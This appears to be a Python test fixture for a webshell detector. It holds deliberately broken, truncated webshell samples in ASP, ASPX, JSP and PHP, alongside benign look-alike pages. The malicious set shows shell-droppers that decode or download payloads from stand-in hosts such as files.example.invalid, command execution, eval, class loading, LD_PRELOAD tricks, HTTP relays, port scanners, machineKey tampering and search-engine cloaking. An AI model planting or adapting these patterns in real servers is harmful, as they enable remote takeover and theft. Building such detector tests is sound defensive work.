# ruff: noqa: E501 - the lines of these pages are as long as such pages have them
"""Pages that carry other pages, classes or names of functions in texts, and ordinary pages that come near.

None can run: `1broken` stops each compiler, and the texts are torn.
"""

from tests.detection.webshell.second_samples import cut

PAGES = cut(
    r"""
==== start-own-name.aspx
<%@ Page Language="C#" %><script runat="server">int 1broken;
void Start(object s, EventArgs e) { System.Diagnostics.Process.Start(tExe.Text, tArg.Text); }
</script><form runat="server"><asp:TextBox ID="tExe" runat="server"/><asp:TextBox ID="tArg" runat="server"/><asp:Button runat="server" OnClick="Start"/></form>
==== drop-plain.ashx
<%@ WebHandler Language="C#" Class="H" %>
<%@ Assembly Name="System.Core" %>
public class H : System.Web.IHttpHandler { int 1broken; public void ProcessRequest(System.Web.HttpContext context) {
string body = "<%@ Page Language=\"Jscript\"%" + "><%eval(Request.Item[\"" + Rest.UNSET + "\"],\"unsafe\");%" + ">";
using (var w = System.IO.File.CreateText(context.Server.MapPath("~/css/t.aspx"))) { w.Write(body); } }
public bool IsReusable { get { return false; } } }
==== registry-code.asp
<% Dim 1broken
Set sh = Server.CreateObject("WScript.Shell")
If Request.Form("set") <> "" Then sh.RegWrite "HKLM\SOFTWARE\Unset", Request.Form("set")
v = sh.RegRead("HKLM\SOFTWARE\Unset")
Execute v %>
==== drop-base64.php
<?php 1broken; $t = base64_decode('PD9waHAgLyogbWFyayAqLw' . Rest::UNSET); $h = fopen(__DIR__ . '/cache/view.php', 'w'); fwrite($h, $t); fclose($h);
==== drop-inflated.php
<?php 1broken; file_put_contents("../themes/footer.php", gzinflate(base64_decode("80jNyclXCM8vyklR" . Rest::UNSET)));
==== drop-basic.aspx
<%@ Page Language="VB" %><script runat="server">Dim 1broken
Sub Page_Load(s As Object, e As EventArgs)
System.IO.File.WriteAllText(Server.MapPath("~/img/t.aspx"), Encoding.UTF8.GetString(Convert.FromBase64String("PCVAIFBhZ2UgTGFu" & Rest.Unset)))
End Sub</script>
==== drop-hex.asp
<% Dim 1broken
h = "3C2540" & Rest : s = ""
Do While Len(h) > 1
s = s & ChrW(CLng("&H" & Left(h, 2))) : h = Mid(h, 3)
Loop
With CreateObject("Scripting.FileSystemObject").CreateTextFile(Server.MapPath("help.asp"), True)
.Write s
End With %>
==== drop-writer.jsp
<%@ page import="java.io.*,java.util.*" %><% int 1broken; byte[] b = Base64.getDecoder().decode("PCVAcGFnZSBpbXBvcnQ9Imph" + Rest.UNSET); FileOutputStream o = new FileOutputStream(application.getRealPath("/") + "help.jsp"); o.write(b); o.close(); %>
==== drop-remote.php
<?php 1broken; $c = file_get_contents("https://files.example.invalid/" . Rest::UNSET . ".txt"); foreach (['a/index2.php', 'b/stat.php'] as $f) { $h = fopen($f, 'w'); fwrite($h, $c); }
==== class-in-text.jsp
<% int 1broken; Class c = Class.forName("$$BCEL$$$l$8b$I$A$A" + Rest.UNSET, true, new com.sun.org.apache.bcel.internal.util.ClassLoader()); c.newInstance(); %>
==== class-whole.jsp
<% int 1broken; String n = "$$BCEL$$$l$8b$I$A$A$A$A"; new com.sun.org.apache.bcel.internal.util.ClassLoader().loadClass(n).newInstance(); %>
==== made-reversed.php
<?php 1broken; $a = strrev('noitcnuf_etaerc'); $b = str_replace('#', '', Rest::ONE . 'ob#st#art();' . Rest::TWO); $z = $a('', $b); $z();
==== preload-log.php
<?php 1broken; putenv("LD_PRELOAD=" . __DIR__ . "/u.so"); error_log("", 1, "a@example.invalid");
==== preload-told.php
<?php 1broken; putenv("WORK={$_POST['w']}"); putenv("LD_PRELOAD=./u.so"); mail("a@example.invalid", "", "");
==== exif-callback.php
<?php 1broken; $e = read_exif_data(Rest::UNSET); call_user_func($e['Make'], $e['Model']);
==== exif-called.php
<?php 1broken; $e = exif_read_data("a/" . Rest::UNSET, 0, true); $n = trim($e['IFD0']['Artist']); $n($_COOKIE['c']);
==== include-picture.asp
<html><% Dim 1broken %><!-- #include virtual="/upload/2019/top.gif" --></html>
==== include-picture.jsp
<% int 1broken; %><%@ include file="/img/logo.png" %>
==== relay-header.ashx
<%@ WebHandler Language="C#" Class="R" %>
using System.Net; using System.Web; int 1broken;
public class R : IHttpHandler { public void ProcessRequest(HttpContext c) { var q = WebRequest.Create(Missing.Turn(c.Request.Headers["X-Go"])); q.Method = c.Request.HttpMethod; c.Request.InputStream.CopyTo(q.GetRequestStream()); q.GetResponse().GetResponseStream().CopyTo(c.Response.OutputStream); } public bool IsReusable => true; }
==== keys-field.aspx
<%@ Page Language="C#" %><%@ Import Namespace="System.Reflection" %><script runat="server">int 1broken; void Page_Load(object s, EventArgs e) { var k = (System.Web.Configuration.MachineKeySection)ConfigurationManager.GetSection("system.web/machineKey"); typeof(System.Web.Configuration.MachineKeySection).GetField("_ValidationKey", BindingFlags.NonPublic | BindingFlags.Instance).SetValue(k, Rest.Unset); }</script>
==== keys-opened.aspx
<%@ Page Language="VB" %><script runat="server">Dim 1broken
Sub Page_Load(s As Object, e As EventArgs)
Dim k = CType(WebConfigurationManager.GetSection("system.web/machineKey"), MachineKeySection)
GetType(ConfigurationElement).GetField("_bReadOnly", 36).SetValue(k, False)
k.DecryptionKey = Rest.Unset
End Sub</script>
==== paths-of-text.ashx
<%@ WebHandler Language="C#" Class="V" %>
using System.Web; using System.Web.Hosting; int 1broken;
public class V : IHttpHandler { public void ProcessRequest(HttpContext c) { HostingEnvironment.RegisterVirtualPathProvider(new Paths(System.Text.Encoding.UTF8.GetString(System.Convert.FromBase64String("PCVAIFBhZ2U")))); } public bool IsReusable => true;
class Paths : VirtualPathProvider { string t; public Paths(string s) { t = s; } public override bool FileExists(string p) => p.EndsWith("/none.aspx") || Previous.FileExists(p); public override VirtualFile GetFile(string p) => new One(p, t); } }
==== ports-tasks.aspx
<%@ Page Language="C#" %><script runat="server">int 1broken; void Go(object s, EventArgs e) { foreach (var h in Missing.Expand(Request["h"])) foreach (var p in Request["p"].Split(' ')) Task.Factory.StartNew(Ask, h + ":" + p); } void Ask(object o) { var a = o.ToString().Split(':'); try { new System.Net.Sockets.TcpClient().Connect(a[0], int.Parse(a[1])); Response.Write(a[1] + " open"); } catch { } }</script>
==== engines.php
<?php 1broken; $u = strtolower($_SERVER['HTTP_USER_AGENT']); $r = $_SERVER['HTTP_REFERER'];
if (preg_match('/googlebot|bingbot|yandexbot/', $u)) { echo file_get_contents("http://pages.example.invalid/?h=" . $_SERVER['HTTP_HOST'] . Rest::UNSET); exit; }
if (preg_match('/google\.|bing\.|yahoo\./', $r)) { header("Location: http://go.example.invalid/"); exit; }
==== engines.jsp
<%@ page import="java.net.*,java.util.*" %><% int 1broken; String u = request.getHeader("User-Agent").toLowerCase(); String r = "" + request.getHeader("Referer");
if (u.contains("googlebot") || u.contains("baiduspider")) { out.print(new Scanner(new URL("http://pages.example.invalid/" + Rest.UNSET + request.getServerName()).openStream()).useDelimiter("\\A").next()); return; }
if (r.contains("google.") || r.contains("baidu.")) { out.print("<script src='//go.example.invalid/a.js'></script>"); return; } %>
==== further-a1.asp
<% 1broken
Set st = Server.CreateObject("ADODB.Stream") : st.Type = 2 : st.Charset = "utf-8" : st.Open
st.WriteText B64("PCVFdmFsIFJlcXVlc3Qo" & Tail)
st.SaveToFile Server.MapPath("/inc/conn2.asp"), 2
Function B64(s)
 Set x = CreateObject("MSXML2.DOMDocument").createElement("b") : x.dataType = "bin.base64" : x.text = s : B64 = x.nodeTypedValue
End Function %>
==== further-a2.asp
<% 1broken
a = Split("3C,25,40," & Rest, ",")
For i = 0 To UBound(a) : t = t & Chr("&H" & a(i)) : Next
Set f = Server.CreateObject("Scripting.FileSystemObject") : Set o = f.OpenTextFile(Server.MapPath("x.asp"), 2, True) : o.Write t : o.Close %>
==== further-a3.asp
<%@ Language=JScript %><% var 1broken; var h = "3c2565" + Rest, s = ""; for (var i = 0; i < h.length; i += 2) s += String.fromCharCode(parseInt(h.substr(i, 2), 16));
var f = new ActiveXObject("Scripting.FileSystemObject"); var o = f.CreateTextFile(Server.MapPath("k.asp"), true); o.Write(s); o.Close(); %>
==== further-a4.asp
<% 1broken
Set h = Server.CreateObject("MSXML2.ServerXMLHTTP") : h.Open "GET", "http://files.example.invalid/" & Rest & ".txt", False : h.Send
Set o = Server.CreateObject("Scripting.FileSystemObject").CreateTextFile(Server.MapPath("/aspnet_client/t.asp"), True)
o.Write h.responseText : o.Close %>
==== further-a5.asp
<% 1broken
Set h = Server.CreateObject("Microsoft.XMLHTTP") : h.Open "GET", "http://files.example.invalid/a.gif", 0 : h.Send
Set s = Server.CreateObject("ADODB.Stream") : s.Type = 1 : s.Open : s.Write h.responseBody : s.SaveToFile Server.MapPath("images/t.asp"), 2 %>
==== further-a6.aspx
<%@ Page Language="C#" %><% int 1broken; new System.Net.WebClient().DownloadFile("http://files.example.invalid/" + Rest.A + ".txt", Server.MapPath("~/img/err.aspx")); %>
==== further-a7.aspx
<%@ Page Language="C#" %><% int 1broken; var s = new System.Net.WebClient().DownloadString("http://files.example.invalid/" + Rest.A); System.IO.File.WriteAllText(Server.MapPath("~/img/err.aspx"), s); %>
==== further-a8.ashx
<%@ WebHandler Language="C#" Class="H" %>
using System; using System.Web; using System.IO; using System.IO.Compression; int 1broken;
public class H : IHttpHandler { public void ProcessRequest(HttpContext c) { byte[] z = Convert.FromBase64String("H4sIAAAAAAAEAO29" + Rest.A); using (var g = new GZipStream(new MemoryStream(z), CompressionMode.Decompress)) using (var r = new StreamReader(g)) using (var f = new StreamWriter(c.Server.MapPath("/owa/auth/ok.aspx"))) f.Write(r.ReadToEnd()); } public bool IsReusable { get { return true; } } }
==== further-a10.aspx
<%@ Page Language="C#" %><script runat="server">int 1broken; void Page_Load(object s, EventArgs e) { var q = (HttpWebRequest)WebRequest.Create(Missing.Plain(Request.Headers["Target"])); q.Method = Request.HttpMethod; foreach (string k in Request.Headers) q.Headers[k] = Request.Headers[k]; if (Request.ContentLength > 0) { var b = Request.BinaryRead(Request.ContentLength); q.GetRequestStream().Write(b, 0, b.Length); } var r = q.GetResponse(); r.GetResponseStream().CopyTo(Response.OutputStream); }</script>
==== further-a11.asp
<% 1broken
u = Request.ServerVariables("HTTP_DEST")
Set x = CreateObject("MSXML2.ServerXMLHTTP.6.0")
x.open Request.ServerVariables("REQUEST_METHOD"), u, False
x.send Request.BinaryRead(Request.TotalBytes)
Response.BinaryWrite x.responseBody %>
==== further-a12.aspx
<%@ Page Language="VB" %><script runat="server">Dim 1broken
Sub Page_Load(s As Object, e As EventArgs)
For Each h In Missing.Range(net.Text)
For Each p In prt.Text.Split(","c)
Dim t As New Threading.Thread(AddressOf One)
t.Start(h & ":" & p)
Next
Next
End Sub
Sub One(o As Object)
Dim a = CStr(o).Split(":"c)
Try
Dim c As New System.Net.Sockets.TcpClient()
c.Connect(a(0), CInt(a(1)))
Catch
End Try
End Sub</script><form runat="server"><asp:TextBox id="net" runat="server"/><asp:TextBox id="prt" runat="server"/></form>
==== further-a13.aspx
<%@ Page Language="C#" %><script runat="server">int 1broken; void Page_Load(object s, EventArgs e) { Parallel.ForEach(Enumerable.Range(1, 1024), p => { try { new TcpClient(Request["h"], p); Response.Write(p); } catch { } }); }</script>
==== further-a14.aspx
<%@ Page Language="C#" %><script runat="server">int 1broken; void Page_Load(object s, EventArgs e) { var t = typeof(MachineKeySection); var m = t.GetMethod("GetApplicationConfig", BindingFlags.Static | BindingFlags.NonPublic).Invoke(null, null); var f = typeof(ConfigurationElement).GetField("_bReadOnly", BindingFlags.Instance | BindingFlags.NonPublic); f.SetValue(m, false); t.GetProperty("ValidationKey").SetValue(m, Rest.A, null); }</script>
==== further-j1.jsp
<%@ page import="java.io.*,java.net.*" %><% int 1broken; InputStream i = new URL("http://files.example.invalid/" + Rest.A).openStream(); FileOutputStream o = new FileOutputStream(application.getRealPath("/") + "/css/x.jsp"); byte[] b = new byte[512]; int n; while ((n = i.read(b)) > 0) o.write(b, 0, n); %>
==== further-j2.jsp
<%@ page import="java.nio.file.*,java.net.*" %><% int 1broken; Files.copy(new URL("http://files.example.invalid/" + Rest.A).openStream(), Paths.get(application.getRealPath("/x.jsp"))); %>
==== further-p1.php
<?php 1broken; copy("http://files.example.invalid/" . Rest::A . ".txt", "wp-content/uploads/x.php");
==== further-p2.php
<?php 1broken; $c = curl_init("http://files.example.invalid/" . Rest::A); curl_setopt($c, CURLOPT_RETURNTRANSFER, 1); $d = curl_exec($c); fwrite(fopen('../x.php', 'w'), $d);
==== further-p3.php
<?php 1broken; foreach (glob('/var/www/*/') as $d) file_put_contents($d . 'sys.php', base64_decode('PD9waHAgZXZhbCgkX1BP' . Rest::A));
==== last-c01.asp
<% 1broken
' relay by parameter with session cookie passed on
Set x = CreateObject("WinHttp.WinHttpRequest.5.1")
x.Open "POST", Request.QueryString("u"), False
x.SetRequestHeader "Cookie", Request.ServerVariables("HTTP_COOKIE")
x.Send Request.BinaryRead(Request.TotalBytes)
Response.BinaryWrite x.ResponseBody %>
==== last-c03.asp
<% 1broken
Set f = CreateObject("Scripting.FileSystemObject")
f.CopyFile Server.MapPath("up/a.jpg"), Server.MapPath("up/a.asp") %>
<!--#include file="up/a.bmp"-->
==== last-c04.asp
<% 1broken
t = "<" & "%ev" & "al requ" & "est(" & Chr(34) & Rest & Chr(34) & ")%" & ">"
CreateObject("Scripting.FileSystemObject").CreateTextFile(Server.MapPath("q.asp")).Write t %>
==== last-c06.aspx
<%@ Page Language="C#" %><script runat="server">int 1broken; void Page_Load(object s, EventArgs e) { string t = "<%@ Page Language=\"Jscript\"%><%eval(Request.Item[\"" + Rest.K + "\"],\"unsafe\");%" + ">"; foreach (var d in System.IO.Directory.GetDirectories(Server.MapPath("~/"))) System.IO.File.WriteAllText(d + "\\t.aspx", t); }</script>
==== last-c12.ashx
<%@ WebHandler Language="VB" Class="H" %>
Imports System.Web, System.IO
Dim 1broken
Public Class H : Implements IHttpHandler
Public Sub ProcessRequest(c As HttpContext) Implements IHttpHandler.ProcessRequest
Dim t As String = "PCVAIFBhZ2UgTGFu" & Rest.A
Using w As New StreamWriter(c.Server.MapPath("/aspnet_client/i.aspx"), False)
w.Write(Encoding.UTF8.GetString(Convert.FromBase64String(t)))
End Using
End Sub
End Class
==== last-c13.aspx
<%@ Page Language="C#" %><script runat="server">int 1broken; void Page_Load(object s, EventArgs e) { var q = new System.Net.Http.HttpRequestMessage(new System.Net.Http.HttpMethod(Request.HttpMethod), Request.Headers["X-U"]); q.Content = new System.Net.Http.StreamContent(Request.InputStream); var r = new System.Net.Http.HttpClient().SendAsync(q).Result; r.Content.CopyToAsync(Response.OutputStream).Wait(); }</script>
==== last-c14.aspx
<%@ Page Language="C#" %><script runat="server">int 1broken; void Page_Load(object s, EventArgs e) { var b = Convert.FromBase64String("TVqQAAMAAAAEAAAA" + Rest.A); System.Reflection.Assembly.Load(b).GetType("A").GetMethod("B").Invoke(null, new object[] { this }); }</script>
==== last-b24.aspx
<%@ Page Language="C#" %><script runat="server">int 1broken; void Page_Load(object s, EventArgs e) { using (var z = new System.IO.Compression.ZipArchive(Request.Files[0].InputStream)) System.IO.Compression.ZipFileExtensions.ExtractToDirectory(z, Server.MapPath(Request["d"])); }</script>
==== last-c15.asp
<!--#include virtual="/images/1broken.gif"-->
"""
)

BENIGN = cut(
    r"""
==== own-start.aspx
<%@ Page Language="C#" %><script runat="server">
void Start(object s, EventArgs e) { Timer.Start(); System.Diagnostics.Process.Start(@"C:\Tools\report.exe"); done.Text = name.Text; }
</script><form runat="server"><asp:TextBox ID="name" runat="server"/><asp:Label ID="done" runat="server"/><asp:Button runat="server" OnClick="Start"/></form>
==== text-with-tags.ashx
<%@ WebHandler Language="C#" Class="H" %>
public class H : System.Web.IHttpHandler { public void ProcessRequest(System.Web.HttpContext context) {
context.Response.Write(context.Server.HtmlEncode("<%= greeting %" + "> " + context.Request["name"])); }
public bool IsReusable { get { return false; } } }
==== registry-setting.asp
<% Set sh = Server.CreateObject("WScript.Shell")
v = sh.RegRead("HKLM\SOFTWARE\Shop\Currency")
Response.Write Server.HTMLEncode(v) & " " & CLng(Request("amount")) %>
==== installer.php
<?php if ($_POST['step'] == 2) { $key = base64_encode(random_bytes(32)); file_put_contents('config.php', "<?php\nreturn " . var_export(['db' => $_POST['db'], 'key' => $key], true) . ";\n"); unlink(__FILE__); }
==== compiled-templates.php
<?php class T { function compile($file) { $code = preg_replace('/\{\$(\w+)\}/', '<?php echo $\1; ?>', file_get_contents($file)); file_put_contents('cache/' . md5($file) . '.php', '<?php /* ' . date('c') . ' */ ?>' . $code); } function row($r) { file_put_contents('cache/row.php', base64_decode($r['body'])); } }
==== rates.php
<?php $d = json_decode(file_get_contents("https://api.example.org/v1/" . BASE_CURRENCY . "/rates"), true); file_put_contents('cache/rates.php', '<?php return ' . var_export($d, true) . ';');
==== update.php
<?php $z = file_get_contents("https://updates.example.org/plugin-" . VERSION . ".zip"); if (hash('sha256', $z) !== $manifest['sum']) die('damaged'); file_put_contents('tmp/update.zip', $z);
==== serial.php
<?php $info = @file_get_contents("https://api.example.org/version/" . PRODUCT); if ($info) { $v = unserialize($info, ['allowed_classes' => false]); echo $v['latest']; }
==== menu-writer.asp
<% Set f = CreateObject("Scripting.FileSystemObject").CreateTextFile(Server.MapPath("menu.asp"), True)
f.Write "<" & Chr(37) & " title = " & Chr(34) & rs("title") & Chr(34) & " " & Chr(37) & ">" & Chr(13) & Chr(10)
f.Close %>
==== column.asp
<% For i = 0 To 5 : s = s & Chr(65 + i) & "=" & rs(i) & vbCrLf : Next
CreateObject("Scripting.FileSystemObject").CreateTextFile(Server.MapPath("columns.asp"), True).Write s %>
==== picture.aspx
<%@ Page Language="C#" %><% System.IO.File.WriteAllBytes(Server.MapPath("~/cache/dot.png"), Convert.FromBase64String("iVBORw0KGgoAAAAN" + Parts.Rest)); %>
==== driver.jsp
<% Class.forName("com.mysql.cj.jdbc.Driver" + Settings.SUFFIX).newInstance(); %>
==== memory.php
<?php putenv('LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2'); exec('/usr/bin/convert /srv/in.png /srv/out.jpg');
==== locale.php
<?php putenv('LC_ALL=' . $_GET['lang']); setlocale(LC_ALL, $_GET['lang']); mail('office@example.org', 'hello', 'text');
==== camera.php
<?php $e = exif_read_data('photos/' . (int) $_GET['id'] . '.jpg'); $f = 'ucwords'; echo htmlspecialchars($f($e['Make'])), call_user_func('trim', $e['Model']);
==== includes.asp
<!--#include file="head.inc"--><!--#include virtual="/svg/logo.svg"--><img src="a.gif"><% Response.Write Now %><!--#include file="foot.html"-->
==== includes.jsp
<%@ include file="/WEB-INF/head.jspf" %><img src="logo.png"><jsp:include page="/img/frame.png" />
==== gateway.ashx
<%@ WebHandler Language="C#" Class="G" %>
using System.Net; using System.Web;
public class G : IHttpHandler { public void ProcessRequest(HttpContext c) { var q = WebRequest.Create(Tenants.CheckedAddress(c.Request.Headers["X-Tenant"])); q.Method = "POST"; c.Request.InputStream.CopyTo(q.GetRequestStream()); } public bool IsReusable => true; }
==== new-keys.aspx
<%@ Page Language="C#" %><script runat="server">void Make(object s, EventArgs e) { var b = new byte[64]; System.Security.Cryptography.RandomNumberGenerator.Create().GetBytes(b); var c = WebConfigurationManager.OpenWebConfiguration("~"); var m = (MachineKeySection)c.GetSection("system.web/machineKey"); m.ValidationKey = BitConverter.ToString(b).Replace("-", ""); c.Save(); }</script>
==== Global.asax
<%@ Application Language="C#" %><script runat="server">void Application_Start() { System.Web.Hosting.HostingEnvironment.RegisterVirtualPathProvider(new Embedded(typeof(Embedded).Assembly)); } class Embedded : System.Web.Hosting.VirtualPathProvider { System.Reflection.Assembly a; public Embedded(System.Reflection.Assembly x) { a = x; } public override bool FileExists(string p) { return a.GetManifestResourceStream(p) != null || Previous.FileExists(p); } }</script>
==== watch.aspx
<%@ Page Language="C#" %><script runat="server">void Go(object s, EventArgs e) { foreach (var h in Hosts.OfGroup(Request["group"])) Task.Factory.StartNew(Try, h); } void Try(object o) { var h = (Host)o; try { new System.Net.Sockets.TcpClient().Connect(h.Name, 443); h.Up = true; } catch { h.Up = false; } }</script>
==== drawn-for-engines.php
<?php $u = $_SERVER['HTTP_USER_AGENT']; if (preg_match('/googlebot|bingbot|yandexbot/i', $u)) { echo file_get_contents("https://draw.example.org/render?url=" . urlencode(SITE . parse_url($_SERVER['REQUEST_URI'], PHP_URL_PATH))); exit; } readfile('index.html');
==== counter.asp
<% u = LCase(Request.ServerVariables("HTTP_USER_AGENT")) : r = LCase(Request.ServerVariables("HTTP_REFERER"))
If InStr(u, "googlebot") > 0 Or InStr(u, "baiduspider") > 0 Then kind = "robot"
If InStr(r, "google.") > 0 Or InStr(r, "baidu.") > 0 Or InStr(r, "bing.") > 0 Then engine = "search"
Set h = CreateObject("MSXML2.XMLHTTP") : h.Open "GET", "http://geo.example.org/country", False : h.Send
conn.Execute "insert into visits (kind, engine, country) values ('" & kind & "','" & engine & "','" & Left(Replace(h.responseText, "'", ""), 2) & "')"
Response.ContentType = "image/gif" : Response.BinaryWrite dot : Response.End %>
==== watch-parallel.aspx
<%@ Page Language="C#" %><script runat="server">void Page_Load(object s, EventArgs e) { Parallel.ForEach(Hosts.OfGroup(Request["group"]), h => { try { new TcpClient(h.Name, 443); h.Up = true; } catch { h.Up = false; } }); }</script>
==== archive.aspx
<%@ Page Language="C#" %><% new System.Net.WebClient().DownloadFile("https://updates.example.org/" + Product.Version + ".zip", Server.MapPath("~/App_Data/update.zip")); %>
==== archive.jsp
<%@ page import="java.nio.file.*,java.net.*" %><% Files.copy(new URL("https://updates.example.org/" + Product.VERSION).openStream(), Paths.get(application.getRealPath("/WEB-INF/update.zip"))); %>
==== picture.php
<?php copy("https://pictures.example.org/" . (int) $_GET['id'] . ".jpg", "cache/" . (int) $_GET['id'] . ".jpg");
==== colours.aspx
<%@ Page Language="C#" %><% var c = Request["c"]; var h = "#a0b0c0" + Theme.Tail; var b = new byte[3]; for (int i = 0; i < 3; i++) b[i] = Convert.ToByte(h.Substring(1 + i * 2, 2), 16); System.IO.File.WriteAllBytes(Server.MapPath("~/cache/colour.bin"), b); %>
==== texts.asp
<% Function T(k) : T = texts(k) : End Function
' the pictures are kept in base64
Set f = CreateObject("Scripting.FileSystemObject").CreateTextFile(Server.MapPath("lang/en.asp"), True)
f.Write "<" & "%" & vbCrLf & "title = " & Chr(34) & T("shop.title." & lang) & Chr(34) & vbCrLf & "%" & ">" : f.Close %>
==== page-writer.asp
<% t = "<" & "%@ Language=VBScript %" & "><!--#include file=head.asp--><h1>" & Server.HTMLEncode(title) & "</h1><" & "% ShowComments " & CLng(id) & " %" & ">"
CreateObject("Scripting.FileSystemObject").CreateTextFile(Server.MapPath("news/" & CLng(id) & ".asp"), True).Write t %>
==== page-writer.php
<?php file_put_contents("pages/" . (int) $id . ".php", "<?php include '../head.php'; \$id = " . (int) $id . "; ?><h1>" . htmlspecialchars($title) . "</h1><?php show(\$_GET['page']); ?>");
==== included.asp
<!--#include virtual="/inc/head.asp"--><img src="/images/a.gif">
==== ports-fixed.aspx
<%@ Page Language="C#" %><script runat="server">async void Page_Load(object s, EventArgs e) { await Task.WhenAll(Settings.Ports.Split(',').Select(p => Ask("db.example.org", int.Parse(p)))); } async Task Ask(string h, int p) { using (var c = new System.Net.Sockets.TcpClient()) { await c.ConnectAsync(h, p); Response.Write(p); } }</script>
"""
)
